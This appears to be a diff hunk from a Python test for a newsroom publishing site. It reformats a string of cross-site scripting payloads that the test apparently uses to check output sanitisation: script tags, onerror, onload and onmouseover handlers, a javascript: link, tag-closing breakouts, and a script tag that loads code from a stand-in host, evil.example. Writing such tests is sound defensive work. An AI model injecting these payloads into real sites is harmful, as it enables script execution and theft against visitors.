@@ -32,7 +32,7 @@ from tests.publishing.site.newsroom import CACHE, START, Newsroom
 WHOLE = " ".join(TEXTS)
 SEIZING = (
     '<script>globalThis.seized = 1</script><img src=x onerror="globalThis.seized=1">'
-    '<svg onload="globalThis.seized=1">\' onmouseover=\'globalThis.seized=1\' ">'
+    "<svg onload=\"globalThis.seized=1\">' onmouseover='globalThis.seized=1' \">"
     '<a href="javascript:'
     'globalThis.seized=1">x</a></title></script><script src="//evil.example/x.js"></script>'
 )
